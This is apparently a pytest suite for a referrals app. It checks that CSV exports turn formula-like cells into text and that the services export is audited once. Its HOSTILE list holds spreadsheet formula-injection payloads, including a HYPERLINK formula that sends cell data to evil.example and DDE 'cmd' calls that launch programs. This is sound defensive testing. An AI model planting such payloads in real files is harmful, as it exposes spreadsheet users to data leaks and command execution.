"""CSV files never carry a formula a spreadsheet would run (every CSV outside the reports)."""

import csv
import io
from decimal import Decimal

import pytest
import sqlalchemy as sa

from referrals.choices import Role
from referrals.csvsafe import csv_cell, csv_lines, csv_uncell
from referrals.models import AuditEvent

from .factories import make_service, make_user
from .test_auth import sign_in

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-1",
    "+44 141 555 0000",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_could_be_a_formula_is_made_text(value):
    assert csv_cell(value) == "'" + value
    assert csv_uncell(csv_cell(value)) == value


@pytest.mark.parametrize("value", ["Glasgow MAT", "2 Main Street", "", "'quoted", "a=b", "0141"])
def test_ordinary_text_is_left_alone(value):
    assert csv_cell(value) == value
    assert csv_uncell(value) == value


def test_csv_lines_escapes_every_cell_and_keeps_numbers():
    text = "".join(
        csv_lines([["name", "count"], ["=1+1", 12], [None, "-3"], [Decimal("-4.251800"), -2.5]])
    )
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "count"],
        ["'=1+1", "12"],
        ["", "'-3"],  # text that looks like a number is still text
        ["-4.251800", "-2.5"],  # numbers the app writes stay numbers
    ]


def test_services_csv_gives_coordinates_as_numbers_a_spreadsheet_or_gis_reads(client, session):
    make_service(session, name="West of Greenwich", external_id="w1")
    session.commit()
    rows = list(csv.DictReader(io.StringIO(client.get("/services.csv").get_data(as_text=True))))
    assert len(rows) == 1
    latitude, longitude = float(rows[0]["latitude"]), float(rows[0]["longitude"])
    assert 54 < latitude < 61 and -9 < longitude < 0
    assert rows[0]["longitude"] == f"{longitude:.6f}"


@pytest.mark.parametrize("signed_in", [False, True])
def test_services_csv_neutralises_formulas_in_every_field(client, session, signed_in):
    for n, value in enumerate(HOSTILE[:5]):
        make_service(session, name=value, description=value, alert=value, external_id=f"x{n}")
    make_user(session, Role.ADMIN, email="csv@test.example")
    session.commit()
    if signed_in:
        sign_in(client, "csv@test.example")
    response = client.get("/services.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == 5
    for row in rows:
        for column in ("name", "description", "alert"):
            assert row[column][0] == "'", (column, row[column])


def test_signed_in_services_csv_downloads_whole_and_is_audited_once(client, session):
    """It used to send the header, then drop the connection after the audit commit."""
    for n in range(3):
        make_service(session, name=f"Service {n}", external_id=f"s{n}")
    make_user(session, Role.ADMIN, email="admin-csv@test.example")
    session.commit()
    sign_in(client, "admin-csv@test.example")
    response = client.get("/services.csv")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [r["name"] for r in rows] == ["Service 0", "Service 1", "Service 2"]
    exports = session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action == "services_exported")
    ).all()
    assert len(exports) == 1 and '"rows": 3' in exports[0].detail
